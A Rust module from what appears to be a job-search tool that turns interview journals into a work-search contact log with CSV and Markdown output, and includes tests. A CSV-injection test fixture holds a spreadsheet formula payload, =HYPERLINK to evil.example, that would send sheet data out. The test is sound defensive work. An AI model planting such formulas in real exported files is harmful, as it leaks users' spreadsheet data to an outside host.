//! The work-search log: every contact you made with an employer (each
//! interview and each follow-up sent), with what came of it. Unemployment
//! offices ask job seekers to keep this record; debrief writes it from the
//! journals you already keep.
//!
//! Only contacts with the employer count: briefing your own references is
//! left out. People are named in full as the application knows them, and a
//! follow-up's result is a reply from someone it reached, never the answer
//! somebody else gave later.

use chrono::NaiveDate;
use chrono_tz::Tz;
use serde::Serialize;

use crate::journal::Journal;
use crate::journal::application::{self, Application};
use crate::journal::model::{Channel, Kind, Outcome, Reply, Sent, normalise, same_person};

/// One contact.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Contact {
    /// When.
    pub date: NaiveDate,
    /// The employer.
    pub employer: String,
    /// The position.
    pub role: String,
    /// Who you dealt with.
    pub person: String,
    /// How: in person, video, phone, email, post, LinkedIn.
    pub method: String,
    /// What it was.
    pub what: String,
    /// What came of it.
    pub result: String,
    /// The journal it is written in.
    pub journal: String,
}

fn kind_text(kind: Kind) -> &'static str {
    match kind {
        Kind::ThankYou => "Thank-you note after the interview",
        Kind::CheckIn => "Asked about the status of the application",
        Kind::KeepWarm => "Kept in touch with the employer",
        Kind::Feedback => "Asked for feedback on the interview",
        Kind::OfferReply => "Answered the job offer",
        Kind::Linkedin => "Connected on LinkedIn",
        Kind::References => "Briefed references for the employer",
        Kind::Withdraw => "Withdrew from the selection process",
        Kind::Other => "Follow-up",
    }
}

fn method(text: &str) -> String {
    match text {
        "email" => "Email".into(),
        "phone" => "Phone".into(),
        "mail" => "Post".into(),
        "linkedin" => "LinkedIn".into(),
        "in-person" | "onsite" => "In person".into(),
        "video" => "Video call".into(),
        "not noted" => "Not noted".into(),
        other => other.to_string(),
    }
}

/// People as the log lists them: "Ann Lee; Bo Chen", or the hiring team.
fn people(names: &[&str]) -> String {
    if names.is_empty() {
        "Hiring team".into()
    } else {
        names.join("; ")
    }
}

/// What came after an interview: the next interview, the outcome, or waiting.
fn interview_result(app: &Application<'_>, index: usize, tz: Tz) -> String {
    let all: Vec<&Journal> = app.journals.iter().chain(&app.scheduled).copied().collect();
    if let Some(next) = all.get(index + 1) {
        return format!("Invited to a further interview ({})", next.date.date(tz));
    }
    match (app.outcome, app.outcome_on) {
        (Outcome::Pending, _) | (_, None) => "Awaiting a decision".into(),
        (Outcome::Offer, Some(on)) => format!("Offered the job ({on})"),
        (Outcome::Rejected, Some(on)) => format!("Not selected ({on})"),
        (Outcome::Withdrawn, Some(on)) => format!("Withdrew the application ({on})"),
        (Outcome::Accepted, Some(on)) => format!("Accepted the job offer ({on})"),
        (Outcome::Declined, Some(on)) => format!("Declined the job offer ({on})"),
    }
}

/// What part a person plays in an application.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Part {
    /// Someone at the employer: an interviewer or a contact.
    Employer,
    /// One of your own references.
    Reference,
}

/// The people an application names, in full: to write `to: Priya` as the
/// Priya Patel who interviewed you, and to tell the employer's people from
/// your own references.
struct People<'a> {
    /// Everyone, in the order names are looked up: interviewers (latest
    /// journal first), then contacts, then references.
    known: Vec<(&'a str, Part)>,
}

impl<'a> People<'a> {
    fn of(app: &Application<'a>) -> People<'a> {
        let all = || app.journals.iter().chain(&app.scheduled).rev();
        let mut known: Vec<(&'a str, Part)> = Vec::new();
        known.extend(all().flat_map(|j| {
            j.interviewers
                .iter()
                .map(|i| (i.name.as_str(), Part::Employer))
        }));
        known.extend(all().filter_map(|j| j.contact.as_deref().map(|c| (c, Part::Employer))));
        known.extend(all().flat_map(|j| {
            j.references
                .iter()
                .map(|r| (r.name.as_str(), Part::Reference))
        }));
        People { known }
    }

    /// The person `written` names, in full, with their part; `None` when it
    /// names nobody the application knows, or two people who share a first
    /// name (the log then keeps the name as written).
    fn find(&self, written: &str) -> Option<(&'a str, Part)> {
        let mut found: Option<(&'a str, Part)> = None;
        for &(name, part) in &self.known {
            if !same_person(name, written) {
                continue;
            }
            match found {
                None => found = Some((name, part)),
                // The same person written down twice.
                Some((seen, _)) if normalise(seen) == normalise(name) => {}
                Some(_) => return None,
            }
        }
        found
    }

    /// The name as the log writes it: in full when the application knows it.
    fn full(&self, written: &'a str) -> &'a str {
        self.find(written).map_or(written, |(name, _)| name)
    }

    /// Whether `sent` went only to your own references: a briefing, not a
    /// contact with the employer.
    fn only_references(&self, sent: &Sent) -> bool {
        sent.kind == Kind::References
            || (!sent.to.is_empty()
                && sent
                    .to
                    .iter()
                    .all(|t| matches!(self.find(t), Some((_, Part::Reference)))))
    }
}

/// How a `sent` entry went: a LinkedIn connection request goes by LinkedIn
/// whatever the journal's channel is.
fn sent_method(sent: &Sent, journal: Channel) -> String {
    let channel = if sent.kind == Kind::Linkedin {
        Channel::Linkedin
    } else {
        sent.channel.unwrap_or(journal)
    };
    method(channel.as_str())
}

/// Whether `reply` answers a contact made on `on` with `reached` (full
/// names; none means the hiring team): it came that day or later, from one
/// of them (a reply that names no sender, or a contact with the hiring
/// team, could be an answer from anyone there).
fn answers(reply: &Reply, on: NaiveDate, reached: &[&str], people: &People<'_>) -> bool {
    if reply.on < on {
        return false;
    }
    let Some(from) = reply.from.as_deref() else {
        return true;
    };
    let from = people.full(from);
    reached.is_empty()
        || reached
            .iter()
            .any(|p| same_person(p, from) || same_person(from, p))
}

/// Every contact dated from `from` to `to` (both included), by date.
pub fn log<'a>(
    journals: impl IntoIterator<Item = &'a Journal>,
    from: Option<NaiveDate>,
    to: NaiveDate,
    tz: Tz,
) -> Vec<Contact> {
    let apps = application::group(journals, to, tz);
    let keep = |d: NaiveDate| d <= to && from.is_none_or(|f| d >= f);
    let mut out = Vec::new();
    for app in &apps {
        let known = People::of(app);
        let mut replies: Vec<_> = app.replies().collect();
        replies.sort_by_key(|r| r.on);
        for (index, j) in app.journals.iter().enumerate() {
            let date = j.date.date(tz);
            if keep(date) {
                let stage = super::scheduled::stage_label(j.stage.as_deref());
                out.push(Contact {
                    date,
                    employer: app.company.clone(),
                    role: app.role.clone(),
                    person: people(
                        &j.interviewers
                            .iter()
                            .map(|i| i.name.as_str())
                            .collect::<Vec<_>>(),
                    ),
                    method: method(j.format.as_deref().unwrap_or("not noted")),
                    what: format!("{stage} for the {} position", app.role),
                    result: interview_result(app, index, tz),
                    journal: j.path.clone(),
                });
            }
            for s in &j.sent {
                let on = s.on.date(tz);
                if !keep(on) || known.only_references(s) {
                    continue;
                }
                let reached: Vec<&str> = if s.to.is_empty() {
                    j.recipients(s)
                } else {
                    s.to.iter().map(|t| known.full(t)).collect()
                };
                let result = replies
                    .iter()
                    .find(|r| answers(r, on, &reached, &known))
                    .map_or_else(
                        || "No reply yet".to_string(),
                        |r| match &r.from {
                            Some(f) => format!("Reply from {} ({})", known.full(f), r.on),
                            None => format!("Reply ({})", r.on),
                        },
                    );
                let mut what = kind_text(s.kind).to_string();
                if let Some(n) = &s.note {
                    what += &format!(": {n}");
                }
                out.push(Contact {
                    date: on,
                    employer: app.company.clone(),
                    role: app.role.clone(),
                    person: people(&reached),
                    method: sent_method(s, j.channel),
                    what,
                    result,
                    journal: j.path.clone(),
                });
            }
        }
    }
    out.sort_by(|a, b| {
        (a.date, a.employer.to_lowercase(), &a.journal).cmp(&(
            b.date,
            b.employer.to_lowercase(),
            &b.journal,
        ))
    });
    out
}

const HEADERS: [&str; 7] = [
    "Date",
    "Employer",
    "Position",
    "Contact person",
    "Method",
    "Activity",
    "Result",
];

fn row(c: &Contact) -> [String; 7] {
    [
        c.date.to_string(),
        c.employer.clone(),
        c.role.clone(),
        c.person.clone(),
        c.method.clone(),
        c.what.clone(),
        c.result.clone(),
    ]
}

/// `cell` as a spreadsheet will read it as text: a cell that starts with
/// `=`, `+`, `-`, `@`, a tab or a CR is a formula to Excel, LibreOffice and
/// Google Sheets (`=HYPERLINK(…)` in a company's name sends the sheet's data
/// away), so it gets a `'` in front, as OWASP advises for CSV injection.
fn as_text(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// The log as CSV (RFC 4180, with a header row), every cell text to a
/// spreadsheet (see [`as_text`]).
pub fn csv(log: &[Contact]) -> String {
    let mut w = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    w.write_record(HEADERS).expect("writes to memory");
    for c in log {
        w.write_record(row(c).map(as_text))
            .expect("writes to memory");
    }
    String::from_utf8(w.into_inner().expect("writes to memory")).expect("UTF-8 in, UTF-8 out")
}

/// The log as a Markdown table.
pub fn markdown(log: &[Contact], from: Option<NaiveDate>, to: NaiveDate) -> String {
    let cell = |s: &str| {
        s.replace('\\', "\\\\")
            .replace('|', "\\|")
            .replace(['\n', '\r'], " ")
    };
    let mut out = String::from("# Work-search log\n\n");
    out += &match from {
        Some(f) => format!(
            "Contacts with employers from {f} to {to}: {}.\n\n",
            log.len()
        ),
        None => format!("Contacts with employers up to {to}: {}.\n\n", log.len()),
    };
    out += &format!("| {} |\n", HEADERS.join(" | "));
    out += &format!("|{}\n", "---|".repeat(HEADERS.len()));
    for c in log {
        let cells: Vec<String> = row(c).iter().map(|s| cell(s)).collect();
        out += &format!("| {} |\n", cells.join(" | "));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testkit::journals;

    fn d(s: &str) -> NaiveDate {
        crate::time::parse_date(s).unwrap()
    }

    #[test]
    fn interviews_and_sent_entries_are_contacts_with_their_results() {
        let js = journals(&[
            "company: Acme\nrole: Dev\ndate: 2026-11-02\nstage: screen\nformat: phone\ninterviewers: [Ann Lee]\nsent:\n  - {kind: thank-you, on: 2026-11-02}\nreplies:\n  - {on: 2026-11-04, from: Ann Lee}",
            "company: acme\nrole: dev\ndate: 2026-11-09\nstage: onsite\nformat: in-person\ninterviewers: [Bo Chen, Cy Dee]\noutcome: rejected\noutcome_on: 2026-11-16\nsent:\n  - {kind: feedback, on: 2026-11-17, to: Bo Chen, channel: email, note: \"asked | politely\"}",
        ]);
        let log = log(&js, None, d("2026-11-22"), chrono_tz::UTC);
        let rows: Vec<(String, &str, &str, &str)> = log
            .iter()
            .map(|c| {
                (
                    c.date.to_string(),
                    c.method.as_str(),
                    c.person.as_str(),
                    c.result.as_str(),
                )
            })
            .collect();
        assert_eq!(
            rows,
            vec![
                (
                    "2026-11-02".into(),
                    "Phone",
                    "Ann Lee",
                    "Invited to a further interview (2026-11-09)"
                ),
                (
                    "2026-11-02".into(),
                    "Email",
                    "Ann Lee",
                    "Reply from Ann Lee (2026-11-04)"
                ),
                (
                    "2026-11-09".into(),
                    "In person",
                    "Bo Chen; Cy Dee",
                    "Not selected (2026-11-16)"
                ),
                ("2026-11-17".into(), "Email", "Bo Chen", "No reply yet"),
            ]
        );
        let only = super::log(&js, Some(d("2026-11-05")), d("2026-11-10"), chrono_tz::UTC);
        assert_eq!(only.len(), 1);
        let md = markdown(&log, None, d("2026-11-22"));
        assert!(md.contains("asked \\| politely"), "{md}");
        let parsed: Vec<Vec<String>> = ::csv::Reader::from_reader(csv(&log).as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(parsed.len(), 4);
        assert_eq!(
            parsed[3][5],
            "Asked for feedback on the interview: asked | politely"
        );
    }

    #[test]
    fn names_are_completed_only_when_one_person_fits() {
        let js = journals(&[
            "company: Acme\nrole: Dev\ndate: 2026-11-02\ninterviewers: [Priya Patel, Priya Shah, Bo Chen]\nreferences: [Max Ruiz]\nsent:\n  - {kind: thank-you, on: 2026-11-02, to: Priya}\n  - {kind: thank-you, on: 2026-11-02, to: [Bo, Max Ruiz]}\n  - {kind: other, on: 2026-11-03, to: Max, note: thanked my reference}\nreplies:\n  - {on: 2026-11-04, from: bo}",
        ]);
        let log = log(&js, None, d("2026-11-22"), chrono_tz::UTC);
        let sent: Vec<(&str, &str)> = log[1..]
            .iter()
            .map(|c| (c.person.as_str(), c.result.as_str()))
            .collect();
        assert_eq!(
            sent,
            [
                // Two Priyas: the name stays as written, and Bo's reply is
                // not an answer to it.
                ("Priya", "No reply yet"),
                ("Bo Chen; Max Ruiz", "Reply from Bo Chen (2026-11-04)"),
                // A note to your own reference alone is not in the log.
            ]
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_text() {
        // A company named `=HYPERLINK(…)` was a live formula in the CSV.
        let js = journals(&[
            "company: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1, \\\"Acme\\\")\"\nrole: \"+1 role\"\ndate: 2026-11-02\nformat: \"@SUM(1)\"\ninterviewers: [\"-2+3\"]",
        ]);
        let mut log = log(&js, None, d("2026-11-22"), chrono_tz::UTC);
        // Journals trim their values: tabs and CRs first, made by hand.
        log.push(Contact {
            employer: "\tTab Co".into(),
            person: "\rCR".into(),
            ..log[0].clone()
        });
        let parsed: Vec<Vec<String>> = ::csv::Reader::from_reader(csv(&log).as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let (row, next) = (&parsed[0], &parsed[1]);
        assert_eq!(row[0], "2026-11-02");
        assert_eq!(
            row[1],
            "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Acme\")"
        );
        assert_eq!(row[2], "'+1 role");
        assert_eq!(row[3], "'-2+3");
        assert_eq!(row[4], "'@SUM(1)");
        assert_eq!(row[5], "Interview for the +1 role position");
        assert_eq!((next[1].as_str(), next[3].as_str()), ("'\tTab Co", "'\rCR"));
        // The Markdown log is not read by spreadsheets: as written.
        assert!(markdown(&log, None, d("2026-11-22")).contains("| =HYPERLINK("));
    }
}
